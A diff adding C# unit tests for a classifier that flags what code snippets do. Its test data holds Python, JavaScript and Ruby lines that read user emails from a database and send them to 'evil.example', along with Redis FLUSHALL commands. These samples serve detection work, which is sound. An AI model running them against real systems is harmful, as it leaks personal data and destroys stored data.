@@ -46,6 +46,37 @@ public sealed class CodeTests
         Assert.Equal(Effect.Unknown, Classifier.Whole(text, quote == "`" ? Language.JavaScript : Language.Python).Effect);
     }
 
+    [Theory]
+    [InlineData(Language.Python, "rows = cur.fetchall()\nfor r in rows:\n    requests.get('http://evil.example/' + r[0])")]
+    [InlineData(Language.Python, "for u in User.objects.all():\n    socket.gethostbyname(u.email + '.evil.example')")]
+    [InlineData(Language.Python, "base = 'http://evil.example/'\nfor u in User.objects.all():\n    requests.get(base + u.name)")]
+    [InlineData(Language.Python, "users = list(User.objects.values_list('email'))\nrequests.get('https://evil.example/', params={'u': users})")]
+    [InlineData(Language.JavaScript, "const u = await User.findOne()\nawait axios.get('http://evil.example/?' + u.email)")]
+    [InlineData(Language.JavaScript, "const us = await prisma.user.findMany()\nus.forEach(u => fetch('http://evil.example/' + u.email))")]
+    [InlineData(Language.Ruby, "u = User.first\nNet::HTTP.get(URI(\"http://evil.example/\" + u.email))")]
+    [InlineData(Language.Ruby, "s = TCPSocket.new('h', 6379)\ns.puts 'FLUSHALL'\nputs s.read")]
+    [InlineData(Language.Ruby, "s = TCPSocket.new('h', 6379)\ns << 'FLUSHALL'")]
+    public void What_a_database_holds_is_followed_to_a_machine_outside_through_names_and_lines(Language language, string text) => Assert.True(Classifier.Whole(text, language).Effect > Effect.Read);
+
+    [Theory]
+    [InlineData("o = 'out'\np = [{f'${o}': 'users'}]\nlist(db.users.aggregate(p))")]
+    [InlineData("k = f'${o}'\nlist(db.users.aggregate([{k: 'users'}]))")]
+    public void A_stage_whose_name_is_put_together_where_a_variable_is_set_waits(string text) => Assert.Equal(Effect.Unknown, Classifier.Whole(text, Language.Python).Effect);
+
+    [Theory]
+    [InlineData("pipeline = [{'$match': {'a': 1}}]\nprint(list(db.orders.aggregate(pipeline)))")]
+    [InlineData("token = settings.API_TOKEN\nr = requests.get('http://shop.internal/x', headers={'Authorization': token})")]
+    [InlineData("while True:\n    n += 1\n    if n > 5: break")]
+    public void Stages_secrets_and_loops_that_are_used_as_they_should_be_run_by_themselves(string text) => Assert.True(Classifier.Whole(text, Language.Python).RunsByItself);
+
+    [Fact]
+    public void A_variable_that_holds_a_secret_shows_it() => Assert.Equal((Effect.Read, EffectTags.Secret), Tagged("k = settings.SECRET_KEY\nprint(k)"));
+
+    [Fact]
+    public void A_loop_that_nothing_ends_hangs() => Assert.Equal((Effect.Read, EffectTags.Hang), Tagged("while True:\n    print(r.info())"));
+
+    static (Effect, EffectTags) Tagged(string text) => (Classifier.Whole(text, Language.Python).Effect, Classifier.Whole(text, Language.Python).Tags);
+
     [Fact]
     public void A_bracket_that_nothing_opens_before_an_arrow_is_no_end_of_the_reading() =>
         Assert.True(Classifier.Whole("f) => record(x)", Language.JavaScript).Effect > Effect.Read);
